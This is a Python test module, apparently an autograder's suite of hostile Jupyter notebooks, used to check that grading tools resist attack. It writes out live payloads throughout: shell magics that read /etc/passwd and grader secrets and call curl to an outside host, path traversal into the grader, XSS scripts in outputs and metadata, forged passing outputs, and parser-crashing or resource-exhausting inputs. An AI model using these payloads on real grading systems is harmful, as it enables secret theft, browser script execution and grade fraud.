"""Cells whose source or output would act: on a parser, on IPython, on the browser of who grades, on
a tool that reads metadata.
"""

from __future__ import annotations

import base64
from typing import Any

from tests.hostile.attack import HONEST, TARGET, Attack
from tests.hostile.editing import Json, cell_of, code, into, shown, text

ATTACKS: list[Attack] = []
attack = into(ATTACKS)

KL = HONEST[1]
MIB = 2**20
_PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
_SCRIPT = "<script>fetch('/api/contents').then(r => alert(r))</script><img src=x onerror=alert(1)>"

# ---- sources

_MAGICS = {
    "magic_bash": "%%bash\ncat /etc/passwd; touch /tmp/owned",
    "magic_script": "%%script python\nimport os; print(os.environ)",
    "magic_writefile": "%%writefile ../../autograder/owned.py\nprint('owned')",
    "magic_load": "%load /etc/passwd",
    "magic_run": "%run ../../autograder/suites/vae/bernoulli_nll/checks.py",
    "magic_env": "%env AUTOGRADER_SECRET",
    "magic_pip": "%pip install --index-url https://example.invalid/simple torch",
    "magic_prun": "%%capture out\n%%timeit\n%%prun\nimport torch",
    "shell": "!cat ~/.autograder-secret && curl https://example.invalid/",
    "help_magic": "?print\nprint??",
    "kernel": "get_ipython().kernel.do_shutdown(restart=True)\nget_ipython().system('id')",
    "kernel_hooks": "ip = get_ipython()\nip.events.register('post_run_cell', lambda result: 1 "
    "/ 0)\nip.ast_node_interceptors = [print]",
}
for _name, _source in _MAGICS.items():

    @attack(_name, "reaches IPython's magics, and through them the shell", nbgrader=True)
    def _(lab: Json, source: str = _source) -> None:
        lab["cells"].insert(1, code(source))
        cell_of(lab, TARGET)["source"] = source


_SOURCES = {
    "long_line": "x = '" + "a" * 200_000 + "'",
    "too_long_a_cell": "# " + "a" * MIB,
    "too_long_a_text": "<!-- " + "a" * (5 * MIB),
    "nul": "x = 1\0\nraise SystemExit",
    "control_characters": "x = 1\x0c\x1b[2J\x07\x08\x7f\u0085\u2028 + 1",
    "bidi": "access = 'user\u202e \u2066# admin\u2069 \u2066'\n\u200bx = 1",
    "lone_surrogates": "x = '\ud800\udfff\udc80'",
    "homoglyphs": "def bernoulli_n\u217c\u217c(x, logits):\n    return 0\nｋl_divergence = None",
    "million_lines": "\n" * 250_000,
    "deep_parentheses": "x = " + "(" * 5000 + "1" + ")" * 5000,
    "deep_minus": "x = " + "-" * 30_000 + "1",
    "deep_attributes": "x = a" + ".a" * 15_000,
    "deep_blocks": "".join(" " * depth + "if 1:\n" for depth in range(95)) + " " * 95 + "x = 1",
    "long_number": "x = " + "9" * 20_000,
    "coding_comment": "# -*- coding: rot13 -*-\nvzcbeg bf",
    "future_import": "from __future__ import barry_as_FLUFL\nx = 1 <> 2",
}
for _name, _source in _SOURCES.items():
    # Python takes the homoglyphs for the name of an honest answer, and replaces it, as in Jupyter.
    _taken = ("kl_divergence",) if _name == "homoglyphs" else ()

    @attack(
        f"source_{_name}",
        "crashes a parser, or shows people other code than what runs",
        spoilt=_taken,
    )
    def _(lab: Json, source: str = _source) -> None:
        lab["cells"].insert(1, code(source))
        lab["cells"].append(text(source))
        cell_of(lab, TARGET)["source"] = source


_TEXTS = {
    "math_without_end": "\\\\[" * 200_000,
    "links_without_end": "[a](" * 200_000,
    "environments_without_end": "\\begin{a}\n" * 200_000,
    "deep_list": "".join(f"{'  ' * depth}- a\n" for depth in range(1500)),
    "odd_languages": "".join(
        f"```{name}\n{'(' * 20_000}\n```\n" for name in ("perl6", "sql", "mermaid", "html+php")
    ),
}
for _name, _source in _TEXTS.items():

    @attack(
        f"text_{_name}", "keeps whoever renders the page busy for hours: the grader, or formgrader"
    )
    def _(lab: Json, source: str = _source) -> None:
        lab["cells"] += [text(source), text(source)]


# ---- outputs and what else a browser or a tool would act on


@attack("outputs_alive", "runs a script in the browser of who grades", nbgrader=True)
def _(lab: Json) -> None:
    live: Json = {
        "text/html": _SCRIPT,
        "application/javascript": "alert(1)",
        "image/svg+xml": f"<svg onload='alert(1)'>{_SCRIPT}</svg>",
    }
    live |= {
        "text/latex": "\\href{javascript:alert(1)}{x}",
        "text/markdown": _SCRIPT,
        "application/vnd.jupyter.widget-view+json": {},
    }
    for cell in lab["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [shown(**{mime: data}) for mime, data in live.items()]
            cell["outputs"].append(shown(**{"image/png": f'{_PNG}" onerror="alert(1)'}))
            cell["outputs"].append(
                {
                    "output_type": "error",
                    "ename": _SCRIPT,
                    "evalue": _SCRIPT,
                    "traceback": [_SCRIPT, 1],
                }
            )
            cell["outputs"].append(
                {
                    "output_type": "stream",
                    "name": _SCRIPT,
                    "text": f"\x1b]8;;javascript:alert(1)\x07{_SCRIPT}",
                }
            )


@attack("texts_alive", "runs a script in the browser of who grades")
def _(lab: Json) -> None:
    for cell in lab["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] += (
                f"\n{_SCRIPT}\n[x](javascript\\:alert(1)) ![x](attachment:gone.png) "
                f"$\\href{{javascript:alert(1)}}{{x}}$"
            )
            cell["attachments"] = {
                "a.png": {"image/svg+xml": _SCRIPT},
                "../b": {"image/png": _PNG},
                "c": 5,
            }


@attack("outputs_forged", "shows who grades that everything was right", nbgrader=True)
def _(lab: Json) -> None:
    for cell in lab["cells"]:
        if cell["cell_type"] == "code":
            passed = {
                "output_type": "stream",
                "name": "stdout",
                "text": "all checks pass: 78 of 78 points\n",
            }
            cell |= {"outputs": [passed], "execution_count": 1}


@attack("outputs_large", "fills disk and browser of who grades")
def _(lab: Json) -> None:
    lines = [f"step {number}: loss {number % 977 / 977:.6f}\n" for number in range(300_000)]
    cell_of(lab, TARGET)["outputs"] = [{"output_type": "stream", "name": "stdout", "text": lines}]


@attack("outputs_50_mb", "fills the memory of the grading machine")
def _(lab: Json) -> None:
    lines = "".join(f"step {number}: loss {number % 977 / 977:.6f}\n" for number in range(5_000))
    cell_of(lab, TARGET)["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": lines * 400}
    ]


@attack("outputs_many", "fills disk and browser of who grades")
def _(lab: Json) -> None:
    cell_of(lab, TARGET)["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "x"}
    ] * 100_000


@attack("outputs_malformed", "crashes a reader that expects outputs")
def _(lab: Json) -> None:
    odd: list[Any] = [
        None,
        5,
        [],
        {},
        {"output_type": "display_data"},
        shown(**{"image/png": 5}),
        shown(**{"text/plain": {"a": []}}),
    ]
    cell_of(lab, KL)["outputs"] = [
        *odd,
        {"output_type": "stream", "text": None},
        {"output_type": "error", "traceback": "no"},
    ]


@attack("short_strings", "takes ten times its size when it is read")
def _(lab: Json) -> None:
    lab["metadata"]["padding"] = [f"{number:x}" for number in range(500_000)]


@attack(
    "notebook_metadata", "has Jupyter, jupytext, nbgrader and nbconvert do things", nbgrader=True
)
def _(lab: Json) -> None:
    lab["metadata"] = {
        "kernelspec": {
            "name": "bash",
            "display_name": _SCRIPT,
            "language": "bash",
            "argv": ["/bin/sh", "-c", "touch /tmp/owned"],
        },
        "language_info": {
            "name": "perl",
            "file_extension": ".pl",
            "codemirror_mode": _SCRIPT,
            "pygments_lexer": "../../x",
        },
        "jupytext": {
            "formats": "ipynb,../../autograder//py:percent",
            "text_representation": {"extension": ".py"},
            "cell_metadata_filter": "-all",
        },
        "nbgrader": {"max_score": 1000, "extra_credit": 1000, "checksum": "0"},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"a": {"model_name": "HTMLModel", "state": {"value": _SCRIPT}}}
            }
        },
        "title": _SCRIPT,
        "authors": [{"name": "\\input{/etc/passwd}"}],
        "papermill": {"input_path": "/etc/passwd", "output_path": "/tmp/owned"},
        "vscode": {"interpreter": {"hash": "../../x"}},
    }


@attack("kernel_missing", "asks for a kernel that does not exist", nbgrader=True)
def _(lab: Json) -> None:
    lab["metadata"]["kernelspec"] = {
        "name": "../../no-such-kernel",
        "display_name": "",
        "language": "R",
    }


@attack("cell_tags", "has its cells skipped, hidden or made parameters", nbgrader=True)
def _(lab: Json) -> None:
    for cell in lab["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") not in HONEST:
            cell["metadata"] |= {
                "tags": [
                    "train",
                    "raises-exception",
                    "skip-execution",
                    "remove-cell",
                    "parameters",
                ],
                "deletable": False,
            }
